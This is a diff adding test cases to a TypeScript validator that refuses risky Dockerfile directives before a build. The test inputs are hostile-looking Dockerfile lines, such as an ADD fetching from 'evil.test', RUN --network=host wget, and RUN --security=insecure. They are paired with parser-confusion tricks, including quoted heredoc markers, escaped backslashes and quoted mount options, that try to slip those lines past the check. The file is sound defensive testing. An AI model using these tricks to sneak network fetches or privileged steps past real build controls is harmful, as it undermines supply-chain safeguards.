@@ -21,6 +21,7 @@ describe('the pre-build gate lets through', () => {
     ['a declared syntax frontend', '# syntax=local/frontend:1\nFROM busybox:1.36.1\n', { allowedFrontends: new Set(['local/frontend:1']) }],
     ['an ONBUILD that copies from the context', 'FROM busybox:1.36.1\nONBUILD COPY app /app\n'],
     ['comments that look like directives after the first instruction', 'FROM busybox:1.36.1\n# syntax=evil.example/x\n'],
+    ['a heredoc to another file descriptor', 'FROM busybox:1.36.1\nRUN cat 3<<EOF\nhi\nEOF\n'],
   ] as [string, string, Partial<typeof policy>?][])('%s', (_name, text, overrides = {}) => {
     expect(gate(text, overrides)).toEqual([]);
   });
@@ -51,6 +52,15 @@ describe('the pre-build gate refuses, naming the line and why', () => {
     ['ONBUILD ADD of a URL', 'FROM busybox:1.36.1 AS base\nONBUILD ADD http://127.0.0.1:9/x /x\nFROM base\n', 2, /ONBUILD ADD fetches "http:\/\/127\.0\.0\.1:9\/x"/],
     ['ONBUILD COPY --from a registry image', 'FROM busybox:1.36.1\nONBUILD COPY --from=127.0.0.1:5000/img /a /a\n', 2, /ONBUILD COPY --from=127\.0\.0\.1:5000\/img/],
     ['ONBUILD RUN --network=host', 'FROM busybox:1.36.1\nONBUILD RUN --network=host true\n', 2, /ONBUILD RUN --network=host/],
+    // Read as BuildKit reads them, not as a forgiving editor parser would:
+    ['a RUN after a line ending in an escaped backslash', 'FROM busybox:1.36.1\nRUN echo foo\\\\\nRUN --network=host wget x\n', 3, /--network=host/],
+    ['a RUN after a quoted <<EOF, which opens no heredoc', "FROM busybox:1.36.1\nRUN echo 'x <<EOF'\nRUN --security=insecure id\nADD http://evil.test/x /x\nRUN cat <<EOF\nhi\nEOF\n", 3, /extra privileges/],
+    ['an ADD after a quoted <<EOF', "FROM busybox:1.36.1\nRUN echo 'x <<EOF'\nRUN --security=insecure id\nADD http://evil.test/x /x\nRUN cat <<EOF\nhi\nEOF\n", 4, /fetches "http:\/\/evil\.test\/x"/],
+    ['a RUN after a JSON-form RUN naming <<EOF', 'FROM busybox:1.36.1\nRUN ["sh", "-c", "cat <<EOF"]\nRUN --network=host x\n', 3, /--network=host/],
+    ['a quoted mount type', 'FROM busybox:1.36.1\nRUN --mount="type=ssh" ssh git@example.test\n', 2, /type=ssh would hand the build/],
+    ['a quoted mount source', 'FROM busybox:1.36.1\nRUN --mount=type=bind,"from=127.0.0.1:5000/img",target=/m true\n', 2, /--mount from=127\.0\.0\.1:5000\/img/],
+    ['a mount written without =', 'FROM busybox:1.36.1\nRUN --mount type=ssh true\n', 2, /--mount without a value/],
+    ['a RUN after an escape directive that a comment made a comment', '# vim: set ft=dockerfile\n# escape=`\nFROM busybox:1.36.1\nRUN echo `\nRUN --network=host wget x\n', 5, /--network=host/],
   ] as const)('%s', (_name, text, line, reason) => {
     const refusals = gate(text);
     expect(refusals).toContainEqual({ line, reason: expect.stringMatching(reason) });
